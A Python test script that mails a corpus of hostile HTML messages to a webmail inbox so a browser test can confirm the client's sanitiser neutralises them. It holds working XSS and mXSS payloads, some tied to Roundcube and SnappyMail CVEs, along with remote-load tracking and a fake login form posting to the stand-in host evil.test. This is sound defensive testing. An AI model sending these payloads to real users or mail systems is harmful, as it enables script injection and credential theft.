"""Sends the hostile corpus to a mailbox: messages whose HTML, subjects,
addresses and attachment names try to run script, load from elsewhere,
or escape the frame they are shown in. Each payload would set
`window.__pwned`, open a dialog, or make a request to evil.test; the
browser test fails on any of those.

    hostile.py SMTP_HOST:PORT RECIPIENT

Payloads after the published ones: Roundcube CVE-2024-42008 and
CVE-2024-42009 (HTML that survives a sanitiser through a Content-Type
or an `<animate>` that rewrites `href`), CVE-2023-5631 (SVG `<use>`
with a data: URL), SnappyMail CVE-2024-45800 (`<img>` with a style
that escapes its context), SVG `<feImage>`, CSS `@import` and
`url()`, animation event handlers, `javascript:` and `data:` URLs in
every URL-taking attribute, forms, `<meta refresh>`, mXSS through
`<noscript>`, `<math>` and `<template>`, and markup in subjects,
display names and attachment names."""

import smtplib
import sys
from email.message import EmailMessage

host, port = sys.argv[1].rsplit(":", 1)
to = sys.argv[2]

PWN = "window.__pwned=true;alert(1);fetch('https://evil.test/x')"

BODIES = {
    "script tag": f"<p>hi</p><script>{PWN}</script>",
    "event handlers": f"<img src=x onerror=\"{PWN}\"><body onload=\"{PWN}\"><div onmouseover=\"{PWN}\">x</div>",
    "javascript URLs": (
        f"<a href=\"javascript:{PWN}\">a</a><a href=\" jaVasCript:alert(1)\">b</a>"
        f"<form action=\"javascript:alert(1)\"><button>c</button></form>"
        f"<iframe src=\"javascript:alert(1)\"></iframe><object data=\"javascript:alert(1)\"></object>"
        f"<embed src=\"javascript:alert(1)\"><img src=\"javascript:alert(1)\"><video poster=\"javascript:alert(1)\"></video>"
        f"<area href=\"javascript:alert(1)\"><base href=\"javascript:alert(1)//\"><input formaction=\"javascript:alert(1)\">"
    ),
    "data URLs": (
        "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>"
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"
        "<object data=\"data:image/svg+xml,<svg onload=alert(1)>\"></object>"
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"
    ),
    "CVE-2024-42009 animate": (
        "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\" /><a id=\"x\"><text x=20 y=20>x</text></a></svg>"
        "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>"
    ),
    "CVE-2023-5631 svg use": (
        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\"/></svg>"
    ),
    "SVG feImage": "<svg><filter id=f><feImage href=\"https://evil.test/feimage.png\"/></filter><rect filter=\"url(#f)\" width=9 height=9/></svg>",
    "CVE-2024-45800 style escape": "<img style=\"x:expression(alert(1))\" src=\"https://evil.test/a.png\"><p style=\"background:url(https://evil.test/b.png)\">p</p>",
    "CSS import and url": (
        "<style>@import url(https://evil.test/a.css); body{background:url('https://evil.test/c.png')}</style>"
        "<div style=\"background-image:u\\72l(https://evil.test/d.png)\">d</div>"
        "<link rel=stylesheet href=https://evil.test/e.css>"
    ),
    "animation handlers": (
        "<style>@keyframes k{from{color:red}to{color:blue}}</style>"
        f"<div style=\"animation:k 1s\" onanimationstart=\"{PWN}\" onanimationend=\"{PWN}\">anim</div>"
        f"<div style=\"transition:color 1s\" ontransitionend=\"{PWN}\">t</div>"
    ),
    "remote images": "<img src=\"https://evil.test/pixel.gif\"><img srcset=\"https://evil.test/s.png 1x\"><picture><source srcset=\"https://evil.test/p.png\"></picture><table background=\"https://evil.test/t.png\"><tr><td>t</td></tr></table>",
    "forms and meta refresh": (
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/refresh\">"
        "<form action=\"https://evil.test/steal\" method=post><input name=password type=password value=x><button>Log in</button></form>"
    ),
    "mXSS noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "mXSS math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "mXSS template": "<template><script>alert(1)</script></template><svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "frames and embeds": "<iframe src=\"https://evil.test/frame\"></iframe><embed src=\"https://evil.test/e.swf\"><object data=\"https://evil.test/o\"></object><applet code=x></applet>",
}


def html_message(name, body, subject=None):
    m = EmailMessage()
    m["From"] = "Mallory <mallory@evil.test>"
    m["To"] = to
    m["Subject"] = subject or f"Hostile: {name}"
    m.set_content("This message is HTML.")
    m.add_alternative(f"<html><body>{body}</body></html>", subtype="html")
    return m


messages = [html_message(name, body) for name, body in BODIES.items()]

# Markup where the app itself shows text: subject, display name, file name.
m = html_message("markup in names", "<p>names</p>",
                 subject=f"Hostile: <img src=x onerror=\"{PWN}\"><script>{PWN}</script>")
del m["From"]
m["From"] = f"\"<img src=x onerror=alert(1)>\" <mallory@evil.test>"
m.add_attachment(b"<script>alert(1)</script>", maintype="text", subtype="html",
                 filename=f"<img src=x onerror=\"{PWN}\">.html")
m.add_attachment(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", maintype="image",
                 subtype="svg+xml", filename="x.svg")
messages.append(m)

# CVE-2024-42008: an attachment whose Content-Type says HTML, shown inline.
m = EmailMessage()
m["From"] = "mallory@evil.test"
m["To"] = to
m["Subject"] = "Hostile: CVE-2024-42008 inline HTML attachment"
m.set_content("See attached.")
m.add_attachment(f"<script>{PWN}</script>".encode(), maintype="text", subtype="html",
                 disposition="inline", filename="invoice.html")
messages.append(m)

with smtplib.SMTP(host, int(port)) as s:
    for m in messages:
        s.send_message(m, from_addr="mallory@evil.test", to_addrs=[to])
print(f"sent {len(messages)} hostile messages")
